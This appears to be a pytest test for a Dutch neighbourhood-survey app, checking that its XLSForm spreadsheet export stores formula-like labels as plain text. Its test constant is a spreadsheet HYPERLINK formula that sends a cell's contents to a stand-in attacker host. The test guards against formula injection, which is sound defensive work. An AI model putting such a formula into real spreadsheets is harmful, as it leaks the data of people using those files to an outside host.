"""The XLSForm export writes text as text: a label that looks like a formula stays a label."""

from __future__ import annotations

import copy
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from buurtonderzoek.questionnaires.models import QuestionnaireVersion
from buurtonderzoek.questionnaires.xlsform import export_xlsform

FORMULA = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik hier")'


@pytest.mark.django_db
def test_a_label_that_looks_like_a_formula_is_exported_as_text(tmp_path) -> None:
    schema = copy.deepcopy(QuestionnaireVersion.objects.latest_published("buurtonderzoek").schema)
    schema["sections"][0]["questions"][0]["label"] = FORMULA
    version = SimpleNamespace(schema=schema, questionnaire=SimpleNamespace(slug="test", title="=1+1"), number=1)
    export_xlsform(version, tmp_path / "form.xlsx")

    workbook = load_workbook(tmp_path / "form.xlsx")
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert FORMULA in texts
    assert "=1+1" in texts
